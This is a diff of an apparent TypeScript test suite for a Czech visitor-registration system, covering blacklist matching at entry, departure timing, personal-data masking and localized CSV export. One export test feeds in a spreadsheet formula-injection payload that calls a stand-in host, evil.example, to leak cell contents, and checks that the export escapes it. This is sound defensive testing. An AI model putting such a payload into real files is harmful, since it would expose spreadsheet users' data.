@@ -148,9 +148,16 @@ describe('entry (Zapsat vstup)', () => {
 });
 
 describe('blacklists at entry', () => {
-  it('warns about an internal blacklist hit, stores the markers when forced', async () => {
+  it('answers an internal hit with each list, matched value, reason and note, and refuses it unacknowledged', async () => {
     await ctx.db.insert(blacklistEntries).values([
-      { siteId: ctx.siteA, category: 'PERSON', reason: 'Theft', firstName: 'Karel', lastName: 'Zakázaný' },
+      {
+        siteId: ctx.siteA,
+        category: 'PERSON',
+        reason: 'Theft',
+        note: 'Call the duty officer',
+        firstName: 'Karel',
+        lastName: 'Zakázaný',
+      },
       { siteId: ctx.siteA, category: 'VEHICLE', reason: 'Damage', licencePlate: '9Z99999' },
     ]);
     const person = visitor(site, { firstName: 'karel', lastName: 'ZAKÁZANÝ', vehiclePlate: '9Z9 9999' });
@@ -161,14 +168,161 @@ describe('blacklists at entry', () => {
       { path: 'blacklistInternalPerson', message: 'BLACKLIST_HIT' },
       { path: 'blacklistInternalVehicle', message: 'BLACKLIST_HIT' },
     ]);
+    expect(warned.json().blacklistHits).toEqual([
+      {
+        list: 'blacklistInternalPerson',
+        matchedBy: 'NAME',
+        value: 'Karel Zakázaný',
+        reason: 'Theft',
+        note: 'Call the duty officer',
+      },
+      {
+        list: 'blacklistInternalVehicle',
+        matchedBy: 'PLATE',
+        value: '9Z99999',
+        reason: 'Damage',
+        note: null,
+      },
+    ]);
+
+    // `force` confirms only "already in the area"; each hit must be named, a partial confirmation is refused.
     const forced = await enter(ctx, reception, { ...person, force: true });
-    expect(forced.statusCode).toBe(201);
-    expect(forced.json()).toMatchObject({
+    expect(forced.statusCode).toBe(409);
+    expect(forced.headers['x-error-code']).toBe('BLACKLIST_HIT');
+    const partly = await enter(ctx, reception, {
+      ...person,
+      blacklistAcknowledged: ['blacklistInternalPerson'],
+    });
+    expect(partly.headers['x-error-code']).toBe('BLACKLIST_HIT');
+    const unknownList = await enter(ctx, reception, { ...person, blacklistAcknowledged: ['blacklistOther'] });
+    expect(unknownList.statusCode).toBe(400);
+    const nothingSaved = await ctx.db
+      .select({ id: visits.id })
+      .from(visits)
+      .where(and(eq(visits.siteId, ctx.siteA), eq(visits.lastName, 'ZAKÁZANÝ')));
+    expect(nothingSaved).toEqual([]);
+
+    const acknowledged = await enter(ctx, reception, {
+      ...person,
+      blacklistAcknowledged: ['blacklistInternalPerson', 'blacklistInternalVehicle'],
+    });
+    expect(acknowledged.statusCode).toBe(201);
+    const record = acknowledged.json();
+    expect(record).toMatchObject({
+      inArea: true,
       blacklistInternalPerson: 'HIT',
       blacklistInternalVehicle: 'HIT',
       blacklistGovernmentPerson: 'NOT_CHECKED',
       blacklistGovernmentVehicle: 'NOT_CHECKED',
     });
+    expect(record.blacklistHits).toEqual([
+      expect.objectContaining({ list: 'blacklistInternalPerson', reason: 'Theft', value: 'Karel Zakázaný' }),
+      expect.objectContaining({ list: 'blacklistInternalVehicle', reason: 'Damage', value: '9Z99999' }),
+    ]);
+
+    // The overview (in the area now) and the detail carry the hits; a viewer sees them without the value.
+    const overview = await ctx.call(viewer, 'GET', `/api/visit/overview?size=100`);
+    const marked = (overview.json() as Array<{ id: number; blacklistHits: unknown[] }>).find(
+      (row) => row.id === record.id,
+    );
+    expect(marked?.blacklistHits).toEqual([
+      expect.objectContaining({
+        list: 'blacklistInternalPerson',
+        reason: 'Theft',
+        value: '***',
+        note: '***',
+      }),
+      expect.objectContaining({
+        list: 'blacklistInternalVehicle',
+        reason: 'Damage',
+        value: '***',
+        note: null,
+      }),
+    ]);
+    const detail = await ctx.call(reception, 'GET', `/api/visit/${record.id}`);
+    expect(detail.json().blacklistHits).toHaveLength(2);
+
+    // The audit keeps who confirmed which hits and the markers written.
+    const audit = await ctx.call(ctx.admin, 'GET', `/api/system_audit?author=${reception.userName}&size=100`);
+    const entry = (
+      audit.json() as Array<{ recordId: string | null; requestBody: Record<string, unknown>; changes: any }>
+    ).find((row) => row.recordId === String(record.id));
+    expect(entry?.requestBody.blacklistAcknowledged).toEqual([
+      'blacklistInternalPerson',
+      'blacklistInternalVehicle',
+    ]);
+    expect(entry?.changes.blacklistInternalPerson).toEqual({ to: 'HIT' });
+  });
+
+  it('keeps the hit (list, reason) but not the matched value after anonymization', async () => {
+    await ctx.db.insert(blacklistEntries).values({
+      siteId: ctx.siteA,
+      category: 'PERSON',
+      reason: 'Trespass',
+      documentTypeId: site.idCard,
+      documentNumber: 'BL-777',
+    });
+    const person = visitor(site, { purpose: site.anonymous, documentNumber: 'bl-777' });
+    const warned = await enter(ctx, reception, person);
+    expect(warned.json().blacklistHits).toEqual([
+      {
+        list: 'blacklistInternalPerson',
+        matchedBy: 'DOCUMENT',
+        value: 'BL-777',
+        reason: 'Trespass',
+        note: null,
+      },
+    ]);
+    const entry = (
+      await enter(ctx, reception, { ...person, blacklistAcknowledged: ['blacklistInternalPerson'] })
+    ).json();
+    const writeOff = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
+    expect(writeOff.statusCode).toBe(200);
+    expect(writeOff.json().blacklistHits).toEqual([
+      expect.objectContaining({ list: 'blacklistInternalPerson', reason: 'Trespass', value: null }),
+    ]);
+  });
+
+  it("does not match another site's blacklist", async () => {
+    await ctx.db.insert(blacklistEntries).values({
+      siteId: ctx.siteB,
+      category: 'PERSON',
+      reason: 'Only on site B',
+      firstName: 'Ota',
+      lastName: 'Jinde',
+    });
+    const here = await enter(ctx, reception, visitor(site, { firstName: 'Ota', lastName: 'Jinde' }));
+    expect(here.statusCode).toBe(201);
+    expect(here.json()).toMatchObject({ blacklistInternalPerson: 'OK', blacklistHits: [] });
+  });
+
+  it('asks about both warnings at once: in the area and on a blacklist', async () => {
+    await ctx.db.insert(blacklistEntries).values({
+      siteId: ctx.siteA,
+      category: 'PERSON',
+      reason: 'Fraud',
+      lastName: 'Dvakrát',
+    });
+    const person = visitor(site, { lastName: 'Dvakrát' });
+    await enter(ctx, reception, { ...person, blacklistAcknowledged: ['blacklistInternalPerson'] });
+    const again = await enter(ctx, reception, person);
+    expect(again.headers['x-error-code']).toBe('BLACKLIST_HIT');
+    expect(again.json().details).toEqual([
+      { path: 'inArea', message: 'ALREADY_IN_AREA' },
+      { path: 'blacklistInternalPerson', message: 'BLACKLIST_HIT' },
+    ]);
+    const onlyHit = await enter(ctx, reception, {
+      ...person,
+      blacklistAcknowledged: ['blacklistInternalPerson'],
+    });
+    expect(onlyHit.headers['x-error-code']).toBe('ALREADY_IN_AREA');
+    expect(onlyHit.json().blacklistHits).toHaveLength(1);
+    const both = await enter(ctx, reception, {
+      ...person,
+      force: true,
+      blacklistAcknowledged: ['blacklistInternalPerson'],
+    });
+    expect(both.statusCode).toBe(201);
   });
 
   it('marks the government checks NOT_CHECKED without a configured register (no simulator by default), with no warning', async () => {
@@ -199,17 +353,24 @@ describe('blacklists at entry', () => {
 describe('leave, untraced departure and write-off', () => {
   it('records a leave (Zapsat odchod): an OUT row, the entry departed and out of the area', async () => {
     const entry = (await enter(ctx, reception, visitor(site))).json();
+    ctx.clock.advance(90 * 60_000);
+    const leftAt = new Date(ctx.clock.now()).toISOString();
     const leave = await ctx.call(reception, 'POST', `/api/visit/${entry.id}/leave`, { gate: site.backGate });
     expect(leave.statusCode).toBe(201);
     expect(leave.json()).toMatchObject({
+      movementTime: leftAt,
       direction: 'OUT',
       inArea: false,
       lastName: entry.lastName,
       gate: { id: site.backGate },
     });
     const after = (await ctx.call(reception, 'GET', `/api/visit/${entry.id}`)).json();
-    expect(after).toMatchObject({ inArea: false, departed: true, version: entry.version + 1 });
-    expect(after.departureTime).not.toBeNull();
+    expect(after).toMatchObject({
+      inArea: false,
+      departed: true,
+      version: entry.version + 1,
+      departureTime: leftAt,
+    });
     const movements = await movementsOf(site.backGate);
     expect(movements.at(-1)).toMatchObject({ direction: 'OUT' });
 
@@ -229,9 +390,15 @@ describe('leave, untraced departure and write-off', () => {
   it('writes off (Odepsat bez odchodu) without a departure or gate passage', async () => {
     const entry = (await enter(ctx, reception, visitor(site))).json();
     const before = (await movementsOf(site.gate)).length;
+    ctx.clock.advance(30 * 60_000);
     const response = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id, note: 'Gone' });
     expect(response.statusCode).toBe(200);
-    expect(response.json()).toMatchObject({ inArea: false, departed: false, note: 'Gone' });
+    expect(response.json()).toMatchObject({
+      inArea: false,
+      departed: false,
+      note: 'Gone',
+      departureTime: new Date(ctx.clock.now()).toISOString(),
+    });
     expect((await movementsOf(site.gate)).length).toBe(before);
     const again = await ctx.call(reception, 'POST', '/api/visit/writeoff', { id: entry.id });
     expect(again.headers['x-error-code']).toBe('NOT_IN_AREA');
@@ -333,6 +500,7 @@ describe('roles, modules and personal data', () => {
     );
     const byName = await ctx.call(viewer, 'GET', '/api/visit?lastName=Nov');
     expect(byName.statusCode).toBe(403);
+    expect(byName.headers['x-error-code']).toBe('PERSONAL_DATA_REQUIRED');
     expect(
       (await ctx.call(viewer, 'GET', `/api/visit/accompaniment?visit=${entry.id}`)).json(),
     ).toMatchObject([{ name: '***' }]);
@@ -351,6 +519,7 @@ describe('roles, modules and personal data', () => {
       note: 'Parkuje u brány 2',
     });
     expect(overwrite.statusCode).toBe(403);
+    expect(overwrite.headers['x-error-code']).toBe('PERSONAL_DATA_REQUIRED');
     const noteOnly = await ctx.call(guardWithoutPersonal, 'PUT', `/api/visit/${entry.id}`, {
       version: masked.version,
       note: 'Parkuje u brány 2',
@@ -506,21 +675,64 @@ describe('lists, autocomplete and export', () => {
     expect((await ctx.call(viewer, 'GET', '/api/visit/whisperer?name=dv')).statusCode).toBe(403);
   });
 
-  it('exports the filtered list as CSV', async () => {
-    const response = await ctx.call(guard, 'GET', '/api/visit/export?direction=IN');
-    expect(response.statusCode).toBe(200);
-    expect(response.headers['content-type']).toContain('text/csv');
-    const lines = response.body
+  const csvLines = (body: string) =>
+    body
       .replace(/^\uFEFF/, '')
       .trim()
       .split('\r\n');
-    expect(lines[0].split(',').slice(0, 4)).toEqual(['id', 'movementTime', 'direction', 'inArea']);
+
+  it('exports the filtered list as CSV in Czech: `;`, translated headers and values, local time', async () => {
+    const response = await ctx.call(guard, 'GET', '/api/visit/export?direction=IN&lang=cs');
+    expect(response.statusCode).toBe(200);
+    expect(response.headers['content-type']).toContain('text/csv');
+    expect(response.headers['content-disposition']).toContain('navstevy.csv');
+    expect(response.body.startsWith('\uFEFF')).toBe(true);
+    const lines = csvLines(response.body);
+    const header = lines[0].split(';');
+    expect(header.slice(0, 5)).toEqual(['ID', 'Čas', 'Směr', 'V areálu', 'Odešel']);
     expect(lines).toHaveLength(4);
-    expect(lines[1]).toContain('Dvořák');
-    expect(lines[1]).toContain('Back gate');
+    const row = lines[1].split(';');
+    const cell = (name: string) => row[header.indexOf(name)];
+    // 08:00 UTC in January is 09:00 on the site's clocks (Europe/Prague).
+    expect(cell('Čas')).toBe('03.01.2024 09:00:00');
+    expect(cell('Směr')).toBe('Vstup');
+    expect(cell('V areálu')).toBe('Ano');
+    expect(cell('Odešel')).toBe('Ne');
+    expect(cell('Příjmení')).toBe('Dvořák');
+    expect(cell('Brána')).toBe('Back gate');
+    expect(cell('Interní seznam – osoba')).toBe('V pořádku');
+    expect(cell('Státní seznam – osoba')).toBe('Nekontrolováno');
   });
 
-  it('exports visitor texts that look like formulas as text (a leading apostrophe), ids as numbers', async () => {
+  it('exports in English with `,` on request, or by the Accept-Language of the caller', async () => {
+    const response = await ctx.call(guard, 'GET', '/api/visit/export?direction=OUT&lang=en');
+    expect(response.headers['content-disposition']).toContain('visits.csv');
+    const lines = csvLines(response.body);
+    const header = lines[0].split(',');
+    expect(header.slice(0, 5)).toEqual(['ID', 'Time', 'Direction', 'In the area', 'Departed']);
+    expect(lines).toHaveLength(2);
+    const row = lines[1].split(',');
+    expect(row[header.indexOf('Time')]).toBe('02.01.2024 11:00:00');
+    expect(row[header.indexOf('Direction')]).toBe('Departure');
+    expect(row[header.indexOf('In the area')]).toBe('No');
+
+    const byHeader = await ctx.call(guard, 'GET', '/api/visit/export?direction=OUT', undefined, {
+      'accept-language': 'en-US,en;q=0.9',
+    });
+    expect(csvLines(byHeader.body)[0].startsWith('ID,Time,Direction')).toBe(true);
+    const czechByDefault = await ctx.call(guard, 'GET', '/api/visit/export?direction=OUT');
+    expect(csvLines(czechByDefault.body)[0].startsWith('ID;Čas;Směr')).toBe(true);
+  });
+
+  it('refuses an unknown language or list parameter of the export', async () => {
+    const language = await ctx.call(guard, 'GET', '/api/visit/export?lang=de');
+    expect(language.statusCode).toBe(400);
+    expect(language.headers['x-error-code']).toBe('VALIDATION');
+    const unknown = await ctx.call(guard, 'GET', '/api/visit/export?nonsense=1');
+    expect(unknown.statusCode).toBe(400);
+  });
+
+  it('exports visitor texts that look like formulas as text (a leading apostrophe), in both languages', async () => {
     const siteId = await ctx.createSite('CSV formulas');
     const csvSite = await givenVisitSite(ctx, siteId);
     const clerk = await ctx.givenUser({ roles: ['VISIT_USER', 'VIEW_PERSONAL_INFO'], sites: [siteId] });
@@ -536,19 +748,27 @@ describe('lists, autocomplete and export', () => {
       }),
     );
     expect(entry.statusCode).toBe(201);
-    const response = await ctx.call(clerk, 'GET', '/api/visit/export');
-    expect(response.statusCode).toBe(200);
-    const [header, row] = response.body.replace(/^\uFEFF/, '').split('\r\n');
-    const column = (name: string) => header.split(',').indexOf(name);
-    expect(row.startsWith(`${entry.json().id},`)).toBe(true);
-    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
-    const cells = row.replace(/"[^"]*(?:""[^"]*)*"/g, 'QUOTED').split(',');
-    expect(cells[column('lastName')]).toBe("'+420 777 123 456");
-    expect(cells[column('company')]).toBe("'@SUM(1+1)");
-    expect(cells[column('note')]).toBe("'-2+3");
-    expect(cells[column('parkingPlace')]).toBe("'=1+1");
-    // No cell of the export starts with a formula character.
-    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const [lang, separator, names] of [
+      ['en', ',', ['Last name', 'Company', 'Note', 'Parking space']],
+      ['cs', ';', ['Příjmení', 'Firma', 'Poznámka', 'Parkovací místo']],
+    ] as const) {
+      const response = await ctx.call(clerk, 'GET', `/api/visit/export?lang=${lang}`);
+      expect(response.statusCode).toBe(200);
+      const [header, row] = response.body.replace(/^\uFEFF/, '').split('\r\n');
+      const column = (name: string) => header.split(separator).indexOf(name);
+      // The id is a number, written as it is.
+      expect(row.startsWith(`${entry.json().id}${separator}`)).toBe(true);
+      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
+      const cells = row.replace(/"[^"]*(?:""[^"]*)*"/g, 'QUOTED').split(separator);
+      expect(names.map((name) => cells[column(name)])).toEqual([
+        "'+420 777 123 456",
+        "'@SUM(1+1)",
+        "'-2+3",
+        "'=1+1",
+      ]);
+      // No cell of the export starts with a formula character.
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
   });
 
   it('updates the recorded details but not the movement', async () => {
